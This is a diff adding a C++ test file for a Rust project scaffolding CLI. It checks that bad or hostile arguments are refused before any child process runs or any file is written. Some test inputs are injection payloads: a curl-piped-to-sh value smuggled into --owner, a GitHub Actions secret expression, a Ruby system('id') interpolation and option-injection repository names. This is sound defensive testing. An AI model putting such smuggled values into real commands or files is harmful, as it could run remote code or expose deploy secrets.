@@ -1,0 +1,120 @@
+// A mistyped or hostile command line is a usage error before anything happens: every child
+// tarnwick could start is a spy that logs its call, and the working directory must stay
+// empty. Values that are merely unusual still reach the files exactly as typed.
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+
+#include <filesystem>
+
+#include "scaffold_fixture.hpp"
+
+using namespace tarnwick::testing;
+
+namespace {
+
+class RefusedLine : public ScaffoldRun {
+protected:
+    void SetUp() override {
+        write_git_identity(home(), "Ada Lovelace", "ada@example.com");
+        for (const char* tool : {"git", "gh", "cargo", "ssh-keygen"}) {
+            const std::string path = spies_ / tool;
+            write_file(path, "#!/bin/sh\necho \"$0 $*\" >> '" + calls_log() + "'\n");
+            ::chmod(path.c_str(), 0755);
+        }
+    }
+
+    std::string calls_log() const { return home() + "/calls"; }
+
+    RunResult run(const std::vector<std::string>& args) {
+        return tarnwick(args, spies_.path(), {}, false);
+    }
+
+    TempDir spies_;
+};
+
+std::string message_of(const std::string& envelope) {
+    const std::string key = "\"message\":\"";
+    auto at = envelope.find(key);
+    if (at == std::string::npos) return {};
+    return envelope.substr(at + key.size(), envelope.rfind("\"}}") - at - key.size());
+}
+
+}  // namespace
+
+TEST_F(RefusedLine, IsAUsageErrorThatWritesNothingAndStartsNoChild) {
+    struct Case {
+        std::vector<std::string> args;
+        std::string message;  // the start of the envelope's message, JSON-escaped
+    };
+    const std::vector<Case> cases = {
+        {{"secrets", "acme/tool", "--tap", "--dry-run"},
+         "error: a value is required for '--tap <TAP>' but none was supplied"},
+        {{"new", "eqb", "--description", "--no-git"},
+         "error: a value is required for '--description <DESCRIPTION>' but none was supplied"},
+        {{"new", "eqb", "--owner", "--no-pypi"},
+         "error: a value is required for '--owner <OWNER>'"},
+        {{"check", "d", "--into", "-x"}, "error: a value is required for '--into <INTO>'"},
+        {{"new", "eqb", "--no-git=false"},
+         "error: unexpected value 'false' for '--no-git' found; no more were expected"},
+        {{"new", "eqb", "--github=0"}, "error: unexpected value '0' for '--github' found"},
+        {{"secrets", "acme/tool", "--dry-run=false"},
+         "error: unexpected value 'false' for '--dry-run' found"},
+        {{"new", "fn"}, "invalid crate name \\\"fn\\\": it is a Rust keyword"},
+        {{"check", "std"},
+         "invalid crate name \\\"std\\\": it is the name of a built-in Rust crate"},
+        {{"new", "build", "--no-git"},
+         "invalid crate name \\\"build\\\": cargo reserves it for a build directory"},
+        {{"new", "eqb", "--owner", "a;curl${IFS}x|sh;#"},
+         "invalid --owner \\\"a;curl${IFS}x|sh;#\\\": use a GitHub account name"},
+        {{"new", "eqb", "--description", "${{ secrets.HOMEBREW_TAP_DEPLOY_KEY }}"},
+         "invalid --description \\\"${{ secrets.HOMEBREW_TAP_DEPLOY_KEY }}\\\": \\\"${{\\\" is "
+         "refused"},
+        {{"new", "eqb", "--description", "#{system('id')}"},
+         "invalid --description \\\"#{system('id')}\\\": \\\"#{\\\" is refused, Ruby"},
+        {{"new", "eqb", "--author", ". <a@b.c>"},
+         "invalid --author \\\". <a@b.c>\\\": git refuses the commit name"},
+        {{"secrets", "--dry-run", "--", "-R/x"},
+         "invalid repository \\\"-R/x\\\": a repository beginning with '-' would be read by gh "
+         "as an option"},
+        {{"secrets", "tool", "--owner=-R"}, "invalid repository \\\"-R/tool\\\""},
+        {{"secrets", "acme/tool", "--tap=--help", "--dry-run"},
+         "invalid --tap \\\"--help\\\": a repository beginning with '-'"},
+    };
+    for (const Case& c : cases) {
+        std::string line;
+        for (const auto& a : c.args) line += " " + a;
+        SCOPED_TRACE("tarnwick" + line);
+        auto r = run(c.args);
+        EXPECT_EQ(r.exit_code, 3);
+        EXPECT_EQ(r.out, "");
+        EXPECT_NE(r.err.find("\"kind\":\"usage\""), std::string::npos) << r.err;
+        EXPECT_EQ(message_of(r.err).rfind(c.message, 0), 0u) << r.err;
+        EXPECT_FALSE(exists(calls_log())) << read_file(calls_log());
+        EXPECT_TRUE(std::filesystem::is_empty(work()));
+    }
+}
+
+TEST_F(RefusedLine, AttachedAndUnusualValuesReachTheFilesAsTyped) {
+    auto r = run({"new", "eqb", "--description=--no-git", "--author=", "--owner=Acme-2", "--no-git",
+                  "-o=json"});
+    ASSERT_EQ(r.exit_code, 0) << r.err;
+    EXPECT_EQ(r.out.front(), '{');
+    const std::string cargo = read_file(work("eqb/Cargo.toml"));
+    EXPECT_NE(cargo.find("description = \"--no-git\"\n"), std::string::npos) << cargo;
+    EXPECT_NE(cargo.find("authors = [\"\"]\n"), std::string::npos) << cargo;
+    EXPECT_NE(cargo.find("repository = \"https://github.com/Acme-2/eqb\"\n"), std::string::npos);
+
+    const std::string typed = "#1 $HOME ${HOME} {{owner}} 100% \xE2\x9C\x93";
+    auto t = run({"new", "typed", "--description", typed, "--author", "Ada", "--no-git"});
+    ASSERT_EQ(t.exit_code, 0) << t.err;
+    EXPECT_NE(
+        read_file(work("typed/.github/workflows/release.yml")).find("desc \"" + typed + "\"\n"),
+        std::string::npos);
+    EXPECT_NE(read_file(work("typed/Cargo.toml")).find("description = \"" + typed + "\"\n"),
+              std::string::npos);
+    // --no-git: no child but the optional cargo ran, asked only to format and to pin the
+    // dependencies (the spy writes no lock file, so the network is never tried).
+    const std::string cargo_calls =
+        spies_ / "cargo" + " fmt\n" + spies_ / "cargo" + " generate-lockfile --offline\n";
+    EXPECT_EQ(read_file(calls_log()), cargo_calls + cargo_calls);
+}
